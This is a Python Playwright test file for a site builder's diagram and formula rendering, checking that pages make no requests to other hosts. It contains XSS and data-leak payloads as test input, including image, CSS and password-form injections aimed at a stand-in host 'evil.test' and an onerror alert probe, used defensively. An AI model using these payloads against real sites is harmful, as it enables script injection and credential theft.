"""Formulas and diagrams as a browser draws them, without a request to another host."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from conftest import built_site, served

pytestmark = pytest.mark.browser

DIAGRAM = """# Diagram

```mermaid
graph LR
  A[Newton] --> B[Nobody yet]
  class A,B internal-link;
```
"""
# Material draws into a closed shadow root, where no test could look.
OPEN_SHADOWS = """
const attach = Element.prototype.attachShadow;
Element.prototype.attachShadow = function (options) { return attach.call(this, { ...options, mode: "open" }); };
"""
BROKEN = "# Broken\n\n```mermaid\ngraph LR\n  A --> <img src=x onerror=alert(1)> -->\n```\n"
HOSTILE = (
    'flowchart TD\n  A@{ img: "http://evil.test/x.png", label: "x" }',
    "flowchart TD\n  A[\"<img src='http://evil.test/x.png'>\"]",
    "flowchart TD\n  A[\"#lt;img src='http://evil.test/x.png'#gt;\"]",
    "mindmap\n  root((<video poster='http://evil.test/x.png'></video>))",
    "flowchart TD\n  A[\"<b style='background:url(http://evil.test/x)'>x</b>\"]",
    "stateDiagram-v2\n  classDef x fill:url(http://evil.test/x)\n  class A x\n  A --> B",
    "mindmap\n  r[\"<form action='http://evil.test'><input type=password></form>\"]",
    "block-beta\ncolumns 1\nspace:99999999\nA",
)
FORMULAS = r"""# Formulas

A known one, $\frac{a}{b}$, and one the build does not know, $\textcolor{#f00}{x}$.

$$
\mathllap{y} = \sum_{i=1}^n x_i
$$

A command of its own: $\newcommand{\twice}[1]{#1#1}$ is known to $\twice{q}$ behind it.

Nobody knows $\nosuchcommand$.
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    hostile = {f"hostile{n}.md": f"# Hostile\n\n```mermaid\n{source}\n```\n" for n, source in enumerate(HOSTILE)}
    notes = {"index.md": "# Home\n", "Newton.md": "# Newton\n", "diagram.md": DIAGRAM}
    return built_site(
        tmp_path_factory.mktemp("drawings"), **notes, **{"broken.md": BROKEN, "formulas.md": FORMULAS}, **hostile
    )


@pytest.fixture
def page(chromium: Browser, site: Path) -> Iterator[Page]:
    """A page at the site's address that fails the test when it asks another host for anything."""
    with served(site) as address:
        context = chromium.new_context(base_url=address)
        page = context.new_page()
        page.add_init_script(OPEN_SHADOWS)
        elsewhere: list[str] = []
        page.on("request", lambda r: None if r.url.startswith((address, "data:")) else elsewhere.append(r.url))
        page.on("dialog", lambda dialog: elsewhere.append(dialog.message))
        yield page
        context.close()
        assert not elsewhere


def test_a_node_of_a_diagram_leads_to_its_note(page: Page) -> None:
    page.goto("diagram/")
    expect(page.locator("div.mermaid a")).to_have_count(1)
    page.locator("div.mermaid a").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Newton")


def test_a_broken_diagram_shows_its_source_and_what_is_wrong(page: Page) -> None:
    page.goto("broken/")
    expect(page.get_by_text("This diagram cannot be drawn.")).to_be_visible()
    expect(page.locator("div.mermaid")).to_contain_text("A --> <img src=x onerror=alert(1)> -->")


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_a_diagram_loads_nothing_from_elsewhere(page: Page, number: int) -> None:
    page.goto(f"hostile{number}/")
    expect(page.get_by_text("This diagram cannot be drawn.")).to_be_visible()
    page.wait_for_load_state("networkidle")


def test_formulas_are_drawn_in_advance_or_else_by_the_browser(page: Page) -> None:
    page.goto("formulas/")
    expect(page.locator("article math")).to_have_count(5)
    expect(page.locator("article math", has_text="qq")).to_have_count(1)
    coloured = page.locator("span.formula math [style*='#f00'], span.formula math [style*='rgb(255']")
    expect(coloured.first).to_be_attached()
    unknown = page.locator(".formula", has_text="nosuchcommand")
    expect(unknown).to_have_attribute(
        "title", "This formula cannot be drawn: Unsupported function name: \\nosuchcommand"
    )


def test_without_scripts_a_formula_is_drawn_and_an_unusual_one_is_legible(chromium: Browser, site: Path) -> None:
    with served(site) as address:
        context = chromium.new_context(base_url=address, java_script_enabled=False)
        page = context.new_page()
        page.goto("formulas/")
        expect(page.locator("article math")).to_have_count(1)
        expect(page.locator(".formula[data-tex=block]")).to_contain_text(r"\mathllap{y}")
        page.goto("diagram/")
        expect(page.locator("pre.mermaid")).to_contain_text("A[Newton] --> B[Nobody yet]")
        context.close()


def test_a_site_without_them_ships_nothing_for_them(tmp_path: Path) -> None:
    shipped = built_site(tmp_path, **{"index.md": "# Home\n"}) / "assets/trellis/built"
    assert sorted(file.name for file in shipped.iterdir()) == [
        "LICENSES.txt",
        "connect.js",
        "diagrams.js",
        "explorer.js",
        "explorer_picture.js",
        "iframe-worker.js",
        "local_graph.js",
        "local_graph_far.js",
        "not_found.js",
        "random_note.js",
        "reading.js",
        "reading_first.js",
        "search.js",
        "search_dialog.js",
        "search_marks.js",
        "stacked.js",
        "ticks.js",
        "trails.js",
        "tree.js",
        "videos.js",
    ]
